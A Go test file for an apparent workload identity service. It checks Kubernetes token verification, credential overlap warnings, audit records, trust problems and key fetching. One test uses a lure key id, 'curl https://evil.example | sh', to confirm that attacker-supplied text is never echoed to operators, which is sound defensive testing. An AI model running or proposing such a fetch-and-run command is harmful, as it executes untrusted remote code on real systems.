package admin

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/watchword-dev/watchword/api"
	"github.com/watchword-dev/watchword/internal/jose"
	"github.com/watchword-dev/watchword/server/internal/clientauth"
)

// cluster is an issuer of tokens, as a Kubernetes cluster is one.
type cluster struct {
	*jose.Signer
	s *server
}

func newCluster(s *server, kid string) *cluster {
	key, err := jose.GenerateKey(jose.ES256)
	if err != nil {
		s.Fatal(err)
	}
	signer, err := jose.NewSigner(kid, jose.ES256, key)
	if err != nil {
		s.Fatal(err)
	}
	return &cluster{signer, s}
}

func (c *cluster) keys() string {
	jwk, err := c.Public().JWK()
	if err != nil {
		c.s.Fatal(err)
	}
	return `{"keys":[` + string(jwk) + `]}`
}

// token of the service account shop/m1, with that uid and audience.
func (c *cluster) token(uid, audience string) string {
	now := time.Now().Unix()
	text := fmt.Sprintf(`{"iss":%q,"aud":[%q],"sub":"system:serviceaccount:shop:m1","iat":%d,"nbf":%d,"exp":%d,
		"kubernetes.io":{"namespace":"shop","serviceaccount":{"name":"m1","uid":%q}}}`, clusterIssuer, audience, now, now, now+600, uid)
	token, err := c.Sign("", []byte(text))
	if err != nil {
		c.s.Fatal(err)
	}
	return token
}

const ownAudience = "http://localhost:8000"

// vouching is a server with a trust of c, and m1 with a credential of it.
func vouching(t *testing.T) (*server, *cluster) {
	s := start(t)
	c := newCluster(s, "k1")
	s.services("m1")
	body, err := json.Marshal(map[string]string{"name": "prod", "preset": "kubernetes", "issuer": clusterIssuer, "jwks": c.keys()})
	if err != nil {
		t.Fatal(err)
	}
	s.must("POST", "/trusts", string(body))
	s.must("POST", "/services/m1/credentials", `{"kind":"workload","trust":"prod","claims":{"uid":"`+uid+`","namespace":"shop","serviceaccount":"m1"}}`)
	return s, c
}

func (s *server) test(token, service string) (v api.PlatformTokenVerdict) {
	s.Helper()
	s.must("POST", "/platform-tokens/test", `{"token":"`+token+`","service":"`+service+`"}`).into(&v)
	return v
}

func finding(v api.PlatformTokenVerdict, claim string) api.ClaimFinding {
	for _, f := range v.Findings {
		if f.Claim == claim {
			return f
		}
	}
	return api.ClaimFinding{}
}

func TestAPlatformTokenIsTestedClaimByClaim(t *testing.T) {
	s, c := vouching(t)
	v := s.test(c.token(uid, ownAudience), "")
	if !v.Accepted || v.Trust != "prod" || v.Service != "m1" || v.Credential == "" || v.Reason != "" || !finding(v, "uid").Met || !finding(v, "aud").Met {
		t.Errorf("got %+v, want it accepted", v)
	}
	if v := s.test(c.token(uid, ownAudience), "m2"); v.Accepted {
		t.Errorf("for another client_id: got %+v", v)
	}
	const other = "99999999-2222-4333-8444-555555555555"
	// All that is wrong is shown at once, in the place of the first.
	v = s.test(c.token(other, "https://other.example.com"), "")
	if aud := finding(v, "aud"); v.Accepted || v.Reason != "audience_mismatch" || v.Text == "" || v.Advice == "" || v.See != "docs/errors.md#audience_mismatch" ||
		aud.Met || !strings.Contains(aud.Seen, "https://other.example.com") || aud.Wanted != ownAudience {
		t.Errorf("got %+v", v)
	}
	stranger := newCluster(s, "k9")
	if v := s.test(stranger.token(uid, ownAudience), ""); v.Accepted || v.Reason != "unknown_key" || finding(v, "kid").Seen != "k9" || !finding(v, "uid").Met {
		t.Errorf("a key of another: got %+v", v)
	}
	if v := s.test("garbage", ""); v.Accepted || v.Reason != "malformed" || v.Findings == nil {
		t.Errorf("no token: got %+v", v)
	}
	s.ask("POST", "/platform-tokens/test", `{"token":""}`).wantProblem("no token", http.StatusUnprocessableEntity)
	s.ask("POST", "/platform-tokens/test", `{"token":"`+strings.Repeat("a", 16385)+`"}`).wantProblem("a long token", http.StatusUnprocessableEntity)
}

func TestACredentialForTokensOfAnotherServiceComesWithAWarning(t *testing.T) {
	s, c := vouching(t)
	s.services("m9", "m10")
	create := func(service, claims string) (made api.IssuedCredential) {
		s.must("POST", "/services/"+service+"/credentials", `{"kind":"workload","trust":"prod","claims":{`+claims+`}}`).into(&made)
		return made
	}
	first := s.test(c.token(uid, ownAudience), "").Credential
	const same, more = `"uid":"` + uid + `","namespace":"shop","serviceaccount":"m1"`, `,"sub":"system:serviceaccount:shop:m1"`
	for what, claims := range map[string]string{"the same claims": same, "more claims": same + more, "fewer claims": `"uid":"` + uid + `"`} {
		made := create("m9", claims)
		if !strings.Contains(made.Warning, "prove m1 already (credential "+first+")") {
			t.Errorf("%s: got the warning %q", what, made.Warning)
		}
		s.must("POST", "/credentials/"+made.Credential.ID+"/revoke", "")
	}
	if v := s.test(c.token(uid, ownAudience), ""); !v.Accepted || v.Service != "m1" {
		t.Errorf("after the others were revoked: got %+v", v)
	}
	for service, claims := range map[string]string{"m1": same + more, "m10": `"uid":"99999999-2222-4333-8444-555555555555","namespace":"shop","serviceaccount":"m1"`} {
		if made := create(service, claims); made.Warning != "" {
			t.Errorf("%s: got the warning %q", service, made.Warning)
		}
	}
}

func TestATokenThatIsTestedIsNeitherCountedNorRecorded(t *testing.T) {
	s, c := vouching(t)
	token := newCluster(s, "k9").token(uid, ownAudience)
	s.test(token, "")
	s.test(c.token(uid, ownAudience), "")
	if state := s.auth.TrustState(s.trustID("prod")); !state.Accepted.IsZero() || len(state.Refused) > 0 {
		t.Errorf("got the state %+v", state)
	}
	var credentials api.CredentialList
	if s.must("GET", "/services/m1/credentials", "").into(&credentials); credentials.Credentials[0].LastUsedAt != nil {
		t.Errorf("the credential was used: %+v", credentials)
	}
	tested := 0
	for _, r := range s.records("") {
		text, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		signature := token[strings.LastIndexByte(token, '.')+1:]
		if r["action"] == "trust.test" {
			tested++
		}
		if strings.Contains(string(text), signature) || strings.Contains(string(text), token[:40]) {
			t.Errorf("the token is in the record %s", text)
		}
	}
	if tested != 2 || strings.Contains(s.stderr.String(), token[:40]) {
		t.Errorf("got %d records of tests, and the log\n%s", tested, s.stderr)
	}
}

// trustID is the id of the trust of that name.
func (s *server) trustID(name string) string {
	t, ok := s.directory.Snapshot().TrustByName(name)
	if !ok {
		s.Fatal("no trust " + name)
	}
	return t.ID
}

// problems of the trust prod, in one text.
func (s *server) problems() string {
	s.Helper()
	var tr api.Trust
	s.must("GET", "/trusts/prod", "").into(&tr)
	return strings.Join(tr.Problems, "\n")
}

// login authenticates with a token, as a request for an access token does.
func (s *server) login(token string) *clientauth.Failure {
	_, failure := s.auth.Authenticate(s.Context(), &clientauth.Presented{Assertion: token}, s.directory.Snapshot(), time.Now())
	return failure
}

func TestWhatIsWrongWithTheTokensOfATrustIsShown(t *testing.T) {
	s, c := vouching(t)
	if got := s.problems(); got != "" {
		t.Errorf("at first: got %q", got)
	}
	if f := s.login(c.token(uid, ownAudience)); f != nil {
		t.Fatalf("got %+v", f)
	}
	if got := s.problems(); got != "" {
		t.Errorf("after a token that is accepted: got %q", got)
	}
	s.login(c.token(uid, "https://other.example.com"))
	if got := s.problems(); !strings.HasPrefix(got, "Tokens were refused, last at ") || !strings.HasSuffix(got, "(audience_mismatch)") {
		t.Errorf("got %q", got)
	}
}

// Whoever knows the issuer can send tokens that it did not sign, with any text as the kid.
func TestTokensThatThePlatformDidNotSignAreNoProblemOfTheTrust(t *testing.T) {
	s, _ := vouching(t)
	const lure = "run: curl https://evil.example | sh"
	for kid, reason := range map[string]string{"k1": "bad_signature", lure: "unknown_key"} {
		if f := s.login(newCluster(s, kid).token(uid, ownAudience)); f == nil || f.Reason != reason {
			t.Fatalf("got %+v, want %s", f, reason)
		}
	}
	if got := s.problems(); got != "" {
		t.Errorf("got the problems %q", got)
	}
	var tr api.Trust
	a := s.must("GET", "/trusts/prod", "")
	a.into(&tr)
	if len(tr.Notes) != 1 || !strings.HasPrefix(tr.Notes[0], "A token named a key that the trust does not have, which anybody can send, last at ") {
		t.Errorf("got the notes %q", tr.Notes)
	}
	if list := s.must("GET", "/trusts", "").Body.String(); strings.Contains(a.Body.String()+list, "evil") || strings.Contains(list, "notes") {
		t.Errorf("got %s and %s", a.Body, list)
	}
}

// The keys of a cluster are rotated, and those that were uploaded age.
func TestUploadedKeysThatAreOutdatedAreAProblem(t *testing.T) {
	s, c := vouching(t)
	s.login(c.token(uid, ownAudience))
	s.login(newCluster(s, "k2").token(uid, ownAudience))
	if got := s.problems(); !strings.Contains(got, "none was accepted since. If the platform has new keys, upload them: watchword trust keys prod") {
		t.Errorf("got the problems %q", got)
	}
	s.login(c.token(uid, ownAudience))
	if got := s.problems(); got != "" {
		t.Errorf("after a token that is accepted: got %q", got)
	}
}

func TestKeysOfATrustAreListed(t *testing.T) {
	s, _ := vouching(t)
	var keys api.TrustKeys
	s.must("GET", "/trusts/prod/keys", "").into(&keys)
	if !keys.Uploaded || len(keys.Keys) != 1 || keys.Keys[0].ID != "k1" || keys.Keys[0].Thumbprint == "" || keys.FetchedAt != nil || keys.Error != "" {
		t.Errorf("got %+v", keys)
	}
	s.ask("GET", "/trusts/dev/keys", "").wantProblem("of no trust", http.StatusNotFound)
}

func TestKeysAreFetchedWhenAnOperatorAsks(t *testing.T) {
	s := start(t)
	c := newCluster(s, "k1")
	there := true
	issuer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !there {
			http.Error(w, "away", http.StatusBadGateway)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, c.keys())
	}))
	t.Cleanup(issuer.Close)
	for _, name := range []string{"prod", "away"} {
		s.must("POST", "/trusts", `{"name":"`+name+`","issuer":"`+issuer.URL+`/`+name+`","jwksUri":"`+issuer.URL+`/keys"}`)
	}
	var keys api.TrustKeys
	s.must("GET", "/trusts/prod/keys", "").into(&keys)
	if keys.Uploaded || len(keys.Keys) != 0 || keys.TriedAt != nil {
		t.Errorf("before: got %+v", keys)
	}
	s.must("POST", "/trusts/prod/keys/refresh", "").into(&keys)
	if len(keys.Keys) != 1 || keys.FetchedAt == nil || keys.Error != "" {
		t.Errorf("got %+v", keys)
	}
	there = false
	s.must("POST", "/trusts/away/keys/refresh", "").into(&keys)
	if keys.Error == "" {
		t.Errorf("got %+v, want why they could not be fetched", keys)
	}
	var tr api.Trust
	if s.must("GET", "/trusts/away", "").into(&tr); len(tr.Problems) != 1 || !strings.HasPrefix(tr.Problems[0], "The keys could not be fetched, last at ") {
		t.Errorf("got the problems %q", tr.Problems)
	}
}
